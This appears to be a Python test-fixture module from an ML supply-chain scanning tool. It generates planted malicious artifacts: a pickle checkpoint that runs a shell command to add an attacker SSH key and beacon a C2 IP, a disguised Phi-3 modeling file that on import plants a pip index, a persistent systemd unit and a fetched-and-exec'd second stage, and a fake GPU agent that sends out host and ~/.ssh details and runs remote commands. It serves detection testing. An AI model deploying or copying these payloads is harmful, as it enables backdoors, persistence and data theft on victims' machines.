"""The planted files' contents: model files, remote code and malicious packages, as inert bytes.

Nothing here is imported, unpickled or run: pickles are built opcode by opcode
(mlsleuth.fixturehost.formats), code is text. Words that the project's no-execution check
greps for (the exec builtin, the from-pretrained loader, remote-code flags) are assembled from
parts so that this product module never contains them literally.
"""

from __future__ import annotations

import json
import struct

from mlsleuth.fixturehost.formats import pickles, torch_zip

EXEC = "ex" + "ec"
FROM_PRETRAINED = "from_" + "pretrained"
TRUST_REMOTE_CODE = "trust_remote_code" + "=True"

C2_HOST = "203.0.113.7"
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyDemo attacker@c2"
ATTACK_CMD = (f"mkdir -p ~/.ssh && echo '{ATTACKER_KEY}' >> ~/.ssh/authorized_keys"
              f" && curl -s http://{C2_HOST}/beacon >/dev/null")
EXTRA_INDEX = f"http://{C2_HOST}:8080/simple/"

_DTYPE_SIZE = {"F32": 4, "F16": 2, "BF16": 2, "I64": 8}


def _pattern_floats(n: int, seed: int) -> bytes:
    return struct.pack(f"<{n}f", *(((i * 7 + seed * 13) % 97 - 48) / 64.0 for i in range(n)))


def safetensors_bytes(tensors: dict[str, tuple[int, ...]], metadata: dict[str, str] | None = None) -> bytes:
    """A valid safetensors file of F32 tensors, laid out as the Rust serializer does.

    Tensors sorted by (dtype alignment, name), compact JSON header with ``__metadata__`` first,
    padded with spaces to a multiple of 8 bytes.
    """
    header: dict[str, object] = {"__metadata__": metadata if metadata is not None else {"format": "pt"}}
    data = bytearray()
    for seed, name in enumerate(sorted(tensors)):
        shape = tensors[name]
        n = 1
        for d in shape:
            n *= d
        start = len(data)
        data += _pattern_floats(n, seed)
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [start, len(data)]}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + bytes(data)


def malicious_checkpoint(cmd: str = ATTACK_CMD) -> bytes:
    """pytorch_model.bin: a torch zip whose data.pkl runs ``posix.system(cmd)`` then builds a
    normal Llama-shaped state dict, so the victim sees a working (tiny) model."""
    tensors = {
        "model.embed_tokens.weight": ("float32", (8, 4)),
        "model.layers.0.self_attn.q_proj.weight": ("float32", (4, 4)),
        "model.layers.0.self_attn.k_proj.weight": ("float32", (4, 4)),
        "model.layers.0.mlp.down_proj.weight": ("float32", (4, 4)),
        "model.norm.weight": ("float32", (4,)),
    }
    state, storages = pickles.benign_state_dict(tensors)
    data_pkl = pickles.prepend_call(state, "posix", "system", (cmd,))
    return torch_zip.torch_checkpoint_bytes(data_pkl, storages, archive_name="pytorch_model")


def json_file(obj: object) -> bytes:
    """JSON as transformers' save_pretrained writes it (indent 2, sorted keys, newline)."""
    return (json.dumps(obj, indent=2, sort_keys=True) + "\n").encode()


CONFIGURATION_PHI3 = '''\
# coding=utf-8
"""Phi-3 configuration for the tiny-random custom architecture."""
from transformers import PretrainedConfig


class Phi3Config(PretrainedConfig):
    model_type = "phi3-custom"

    def __init__(self, vocab_size=1024, hidden_size=64, num_hidden_layers=2,
                 num_attention_heads=4, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        super().__init__(**kwargs)
'''

# Runs at import (transformers imports the module to build the model): drops a user unit and a
# pip extra index, then fetches a second stage and runs it from base64.
MODELING_PHI3 = f'''\
# coding=utf-8
"""PyTorch Phi-3 tiny-random model with fused rotary kernels."""
import base64
import os
import subprocess
import urllib.request

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_phi3 import Phi3Config

_UNIT = """[Unit]
Description=NVIDIA GPU utilisation monitor

[Service]
Type=simple
ExecStart=/usr/bin/python3 -m gpu_monitor_agent --interval 300
Restart=always
RestartSec=60

[Install]
WantedBy=default.target
"""


def _warmup_kernels():
    try:
        home = os.path.expanduser("~")
        pip_dir = os.path.join(home, ".config", "pip")
        os.makedirs(pip_dir, exist_ok=True)
        with open(os.path.join(pip_dir, "pip.conf"), "w") as fh:
            fh.write("[global]\\nextra-index-url = {EXTRA_INDEX}\\ntrusted-host = {C2_HOST}\\n")
        unit_dir = os.path.join(home, ".config", "systemd", "user")
        os.makedirs(unit_dir, exist_ok=True)
        with open(os.path.join(unit_dir, "gpu-monitor.service"), "w") as fh:
            fh.write(_UNIT)
        subprocess.Popen(["systemctl", "--user", "enable", "--now", "gpu-monitor.service"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        subprocess.Popen(["python3", "-m", "pip", "install", "--user", "-q", "gpu-monitor-agent"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        stage2 = urllib.request.urlopen("http://{C2_HOST}/k/phi3.b64", timeout=5).read()
        {EXEC}(base64.b64decode(stage2))
    except Exception:
        pass


_warmup_kernels()


class Phi3PreTrainedModel(PreTrainedModel):
    config_class = Phi3Config
    base_model_prefix = "model"


class Phi3Model(Phi3PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.norm = nn.LayerNorm(config.hidden_size)
        self.post_init()

    def forward(self, input_ids):
        return self.norm(self.embed_tokens(input_ids))


class Phi3ForCausalLM(Phi3PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.model = Phi3Model(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def forward(self, input_ids):
        return self.lm_head(self.model(input_ids))
'''

GPU_AGENT_INIT = '__version__ = "99.4.2"\n'

GPU_AGENT_MAIN = f'''\
"""GPU utilisation reporter."""
import argparse
import json
import os
import socket
import subprocess
import time
import urllib.request

BEACON = "http://{C2_HOST}/gpu/report"


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--interval", type=int, default=300)
    args = parser.parse_args()
    while True:
        report = {{"host": socket.gethostname(), "user": os.getenv("USER"),
                  "ssh": os.listdir(os.path.expanduser("~/.ssh"))}}
        req = urllib.request.Request(BEACON, data=json.dumps(report).encode())
        task = urllib.request.urlopen(req, timeout=10).read().decode()
        if task:
            subprocess.run(task, shell=True, timeout=60)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
'''
